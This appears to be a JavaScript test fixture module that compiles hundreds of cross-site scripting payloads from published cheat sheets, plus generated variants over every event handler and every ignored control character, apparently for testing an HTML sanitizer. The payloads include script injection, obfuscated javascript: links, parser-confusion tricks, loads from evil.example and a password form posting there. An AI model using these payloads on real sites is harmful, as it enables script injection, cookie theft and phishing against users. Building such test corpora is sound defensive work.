/**
 * HTML that would run a script, load something or change the page. Covers the attacks in published lists:
 * OWASP's 'XSS Filter Evasion Cheat Sheet', cure53's 'HTML5 Security Cheatsheet' and PortSwigger's
 * 'Cross-site scripting cheat sheet'. Each calls `alert`, or names the host evil.example.
 */
const written = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>
<script/src="https://evil.example/x.js"></script>
<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<SCRIPT>alert(1);//\<</SCRIPT>
<SCRIPT SRC=https://evil.example/xss.js?< B >
<SCRIPT SRC=//evil.example/.j>
<script\x20type="text/javascript">javascript:alert(1);</script>
<script type="module">import 'https://evil.example/x.mjs'</script>
<script>//<![CDATA[
alert(1)//]]></script>
<svg><script>alert&lpar;1&rpar;</script></svg>
<svg><script xlink:href="data:,alert(1)"></script></svg>
<svg><script href="data:,alert(1)"/></svg>
<math><mtext><script>alert(1)</script></mtext></math>
<template><script>alert(1)</script></template>
<noscript><script>alert(1)</script></noscript>
<title><script>alert(1)</script></title>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
--!><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
<script>alert(1)
<script
<img src=x onerror=alert(1)>
<img src="/a.webp" onerror="alert(1)">
<img src='/a.webp' ONERROR='alert(1)'>
<img/src="/a.webp"/onload=alert(1)>
<img src=/a.webp onload=alert(1)//
<img src="/a.webp"onload=alert(1)>
<IMG """><SCRIPT>alert(1)</SCRIPT>"\>
<IMG SRC="javascript:alert(1);">
<IMG SRC=javascript:alert(1)>
<IMG SRC=JaVaScRiPt:alert(1)>
<IMG SRC=javascript:alert(&quot;1&quot;)>
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>
<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108>
<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>
<IMG SRC="jav	ascript:alert(1);">
<IMG SRC="jav&#x09;ascript:alert(1);">
<IMG SRC="jav&#x0A;ascript:alert(1);">
<IMG SRC="jav&#x0D;ascript:alert(1);">
<IMG SRC=" &#14;  javascript:alert(1);">
<IMG SRC="('XSS')"
<IMG DYNSRC="javascript:alert(1)">
<IMG LOWSRC="javascript:alert(1)">
<IMG SRC='vbscript:msgbox("XSS")'>
<IMG SRC="livescript:alert(1)">
<IMG SRC= onmouseover="alert(1)">
<IMG onmouseover="alert(1)">
<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">
<img src="https://evil.example/pixel.gif">
<img src="//evil.example/pixel.gif">
<img src="\\evil.example\pixel.gif">
<img src="/\evil.example/pixel.gif">
<img src="/	/evil.example/pixel.gif">
<img src="/a.webp" srcset="https://evil.example/a.png 2x">
<img src="/a.webp" usemap="#m"><map name="m"><area href="javascript:alert(1)"></map>
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<img src="blob:https://evil.example/x">
<img src="/a.webp" alt="" title="><img src=x onerror=alert(1)>">
<img src="/a.webp" alt="--><script>alert(1)</script>">
<img src="/a.webp" name="cookie" id="location">
<image src=x onerror=alert(1)>
<image xlink:href="https://evil.example/a.png">
<picture><source srcset="https://evil.example/a.webp"><img src="/a.webp"></picture>
<video src=x onerror=alert(1)></video>
<video><source onerror="alert(1)"></video>
<video poster="javascript:alert(1)"></video>
<video poster=https://evil.example/p.png></video>
<audio src=x onerror=alert(1)></audio>
<audio autoplay onloadstart=alert(1) src="https://evil.example/a.ogg"></audio>
<track src="https://evil.example/t.vtt">
<bgsound src="javascript:alert(1);">
<a href="javascript:alert(1)">click</a>
<a href="JAVASCRIPT:alert(1)">click</a>
<a href=" javascript:alert(1)">click</a>
<a href="&#1;javascript:alert(1)">click</a>
<a href="java&#0;script:alert(1)">click</a>
<a href="java&Tab;script:alert(1)">click</a>
<a href="java&NewLine;script:alert(1)">click</a>
<a href="javascript&colon;alert(1)">click</a>
<a href="javascript&#58alert(1)">click</a>
<a href="javas&#99;ript:alert(1)">click</a>
<a href="&#xA0;javascript:alert(1)">click</a>
<a href="&#x2028;javascript:alert(1)">click</a>
<a href="&#x3000;javascript:alert(1)">click</a>
<a href="&#xFEFF;javascript:alert(1)">click</a>
<a href="javascript://%0aalert(1)">click</a>
<a href="javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>">click</a>
<a href="vbscript:alert(1)">click</a>
<a href="data:text/html,<script>alert(1)</script>">click</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>
<a href="data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>">click</a>
<a href="blob:https://evil.example/x">click</a>
<a href="file:///etc/passwd">click</a>
<a href="filesystem:https://evil.example/x">click</a>
<a href="view-source:https://evil.example/">click</a>
<a href="ftp://evil.example/">click</a>
<a href="feed:javascript:alert(1)">click</a>
<a href="jar:https://evil.example/x!/y">click</a>
<a href="ms-its:https://evil.example/">click</a>
<a href="intent://evil.example#Intent;end">click</a>
<a href="//evil.example/">click</a>
<a href="\\evil.example">click</a>
<a href="/" onclick="alert(1)">click</a>
<a href="/" onfocus=alert(1) autofocus>click</a>
<a href="/" style="background:url(javascript:alert(1))">click</a>
<a href="/" target="_top" ping="https://evil.example/">click</a>
<a href="/" download="x.exe" rel="opener" target="evil">click</a>
<a href="/" id="location" name="forms" class="x">click</a>
<a href="/"title="x"onclick=alert(1)>click</a>
<a href="/" title='"><script>alert(1)</script>'>click</a>
<a href="/"><a href="javascript:alert(1)">nested</a></a>
<a xlink:href="javascript:alert(1)">click</a>
<a onmouseover="alert(document.cookie)">click</a>
<a onmouseover=alert(1)>click</a>
<a href=javascript:alert(1)//http://>click</a>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><a xlink:href="javascript:alert(1)"><text y="1">click</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>click</text></a></svg>
<svg><set attributeName="onmouseover" to="alert(1)"/></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>
<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>
<svg><image href="https://evil.example/a.png"/></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>
<math href="javascript:alert(1)">click</math>
<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">click</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style>
<iframe src="javascript:alert(1)"></iframe>
<iframe src=https://evil.example/></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src&equals;x onerror&equals;alert(1)&gt;"></iframe>
<iframe onload=alert(1)></iframe>
<iframe><img src=x onerror=alert(1)></iframe>
<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>
<object><param name=movie value=https://evil.example/x.swf></object>
<embed src="javascript:alert(1)">
<embed src="https://evil.example/xss.swf" AllowScriptAccess="always">
<applet code="Evil" codebase="https://evil.example/"></applet>
<isindex action="javascript:alert(1)" type=image>
<form action="javascript:alert(1)"><input type=submit></form>
<form action="https://evil.example/"><input name=password type=password></form>
<form id=x></form><button form=x formaction="javascript:alert(1)">click</button>
<button formaction=javascript:alert(1)>click</button>
<input onfocus=alert(1) autofocus>
<input type=image src=x onerror=alert(1)>
<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">
<input name=attributes><input name=attributes>
<select onfocus=alert(1) autofocus></select>
<select><style></select><img src=x onerror=alert(1)></style>
<option><style></option></select><b><img src=x onerror=alert(1)></style></option>
<textarea onfocus=alert(1) autofocus></textarea>
<textarea></textarea><img src=x onerror=alert(1)>
<textarea>@</textarea><!--</textarea><img src=x onerror=alert(1)>-->
<keygen onfocus=alert(1) autofocus>
<details open ontoggle=alert(1)>x</details>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<marquee onstart=alert(1)>x</marquee>
<menu><command onclick=alert(1)></menu>
<meter onmouseover=alert(1)>0</meter>
<body onload=alert(1)>
<BODY BACKGROUND="javascript:alert(1)">
<body onpageshow=alert(1)>
<html onmousemove=alert(1)>
<head><base href="https://evil.example/"></head>
<BASE HREF="javascript:alert(1);//">
<base target="evil">
<meta http-equiv="refresh" content="0;url=javascript:alert(1);">
<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">
<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(1)</SCRIPT>">
<link rel="stylesheet" href="https://evil.example/x.css">
<LINK REL="stylesheet" HREF="javascript:alert(1);">
<link rel=import href="https://evil.example/">
<link rel=preload as=script href=https://evil.example/x.js onload=alert(1)>
<style>@import'https://evil.example/xss.css';</style>
<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x</UL>
<STYLE>BODY{-moz-binding:url("https://evil.example/xssmoz.xml#xss")}</STYLE>
<style><!--</style><img src=x onerror=alert(1)>--></style>
<style><style/><img src=x onerror=alert(1)>
<b><style><style////><img src=x onerror=alert(1)></style>
<p style="background-image:url(https://evil.example/a.png)">x</p>
<p style="position:fixed;inset:0;z-index:9">x</p>
<p style="width:expression(alert(1))">x</p>
<DIV STYLE="behaviour: url('https://evil.example/x.htc')">x</DIV>
<TABLE BACKGROUND="javascript:alert(1)"><tr><td>x</td></tr></TABLE>
<TABLE><TD BACKGROUND="https://evil.example/a.png">x</TABLE>
<table><tr><td onclick=alert(1)>x</td></tr></table>
<table><img src=x onerror=alert(1)></table>
<li style=list-style:url() onclick=alert(1)>x</li>
<blockquote cite="javascript:alert(1)">x</blockquote>
<q cite="https://evil.example/">x</q>
<del cite="javascript:alert(1)">x</del>
<p onclick=alert(1)>x</p>
<p oNcLiCk=alert(1)>x</p>
<p/onclick=alert(1)>x</p>
<p onclick
=alert(1)>x</p>
<p "onclick=alert(1)">x</p>
<p a='>' onclick=alert(1)>x</p>
<p a=">" onclick=alert(1)>x</p>
<p x=y"onclick=alert(1)>x</p>
<p contenteditable autofocus onfocus=alert(1)>x</p>
<p tabindex=0 accesskey=x onfocus=alert(1)>x</p>
<h2 id="x" onanimationstart="alert(1)" style="animation:x">x</h2>
<strong data-x="<script>alert(1)</script>">x</strong>
<code><script>alert(1)</script></code>
<pre><img src=x onerror=alert(1)></pre>
<figure><figcaption onclick=alert(1)>x</figcaption></figure>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<b><noscript><!-- </noscript><img src=x onerror=alert(1) --></noscript>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<noframes><p title="</noframes><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img onerror=alert(1) src=x&gt;</listing>
<title><p title="</title><img src=x onerror=alert(1)>">
<iframe><p title="</iframe><img src=x onerror=alert(1)>">
<template><s><template><s><img src=x onerror=alert(1)></s></template></s></template>
<slot onslotchange=alert(1)></slot>
<x onclick=alert(1)>x</x>
<x-evil onfocus=alert(1) tabindex=1>x</x-evil>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.xsl"?>
<?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="<script>alert(1)</script>">
<!--<img src="--><img src=x onerror=alert(1)//">
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--!><img src=x onerror=alert(1)>-->
<!--> <img src=x onerror=alert(1)> -->
<!-- --!><img src=x onerror=alert(1)> -->
<!DOCTYPE x [<!ENTITY x "<script>alert(1)</script>">]>&x;
<![CDATA[<script>alert(1)</script>]]>
<![><img src="]><img src=x onerror=alert(1)//">
<![CDATA[<!--]]><img src=x onerror=alert(1)>
<% alert(1) %>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
＜script＞alert(1)＜/script＞
<p>a<b>c<script>alert(1)</p></b></script>
<p><a href="/x<script>alert(1)</script>">x</a></p>
<a href="https://x.example/?q=<script>alert(1)</script>">x</a>
<a href="mailto:a@b.example?body=%3Cscript%3Ealert(1)">x</a>
<a href="/x?a=1&b=2&lt;=3&copy=4">x</a>
<a href='x' title=&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;>x</a>
<div><style><div title="</style><img src=x onerror=alert(1)>">
<input/onmouseover="javaSCRIPT&colon;alert&lpar;1&rpar;"
<sVg><scRipt %00>alert&lpar;1&rpar; {Opera}
<img/src=%00 onerror=this.onerror=alert(1)
<--img src=x onerror=alert(1)>
< img src=x onerror=alert(1)>
</ script><script>alert(1)</ script>
<a
href="javascript:alert(1)"
>x</a>
<p>&#xD800;<script>alert(1)</script>&#x110000;</p>
<a href="https:javascript:alert(1)">x</a>
<a href="https:/\evil.example">x</a>
<a href="tel:javascript:alert(1)">x</a>
<a href="#" onclick="alert(1)">x</a>
<a href="?x=javascript:alert(1)">x</a>
`;

/** Continuation lines belong to the line before. */
const lines = written
  .trim()
  .split(/\n(?=[<&%'"]|--|＜)/)
  .filter(Boolean);

const handlers = (
  'abort afterprint animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput ' +
  'beforepaste beforeprint beforetoggle beforeunload begin blur bounce canplay canplaythrough change click close ' +
  'contextmenu copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop ' +
  'durationchange end ended error finish focus focusin focusout formdata fullscreenchange hashchange input invalid ' +
  'keydown keypress keyup load loadeddata loadedmetadata loadstart message mousedown mouseenter mouseleave mousemove ' +
  'mouseout mouseover mouseup mousewheel pagehide pageshow paste pause play playing pointercancel pointerdown ' +
  'pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ' +
  'ratechange readystatechange repeat reset resize scroll scrollend search securitypolicyviolation seeked seeking ' +
  'select selectionchange selectstart show slotchange stalled start submit suspend timeupdate toggle touchcancel ' +
  'touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection ' +
  'unload volumechange waiting webkitanimationend webkittransitionend wheel'
).split(' ');

const handled = handlers.map((event) => `<p on${event}="alert(1)"><a href="/" ON${event}=alert(1)>x</a></p>`);

/** Characters that browsers ignore before and within a scheme. */
const overlooked = [...Array(33).keys(), 0x7f, 0xa0, 0xad, 0x200b, 0x200d, 0x2028, 0x2029, 0xfeff];
const obfuscated = overlooked.flatMap((code) => {
  const sign = String.fromCharCode(code);
  return [
    `<a href="${sign}javascript:alert(1)">x</a>`,
    `<a href="java${sign}script:alert(1)">x</a>`,
    `<a href="javascript${sign}:alert(1)">x</a>`,
    `<a href="&#${code};javascript:alert(1)">x</a>`,
    `<img src="/${sign}/evil.example/a.png">`,
  ];
});

export const hostileHtml = [...new Set([...lines, ...handled, ...obfuscated])];
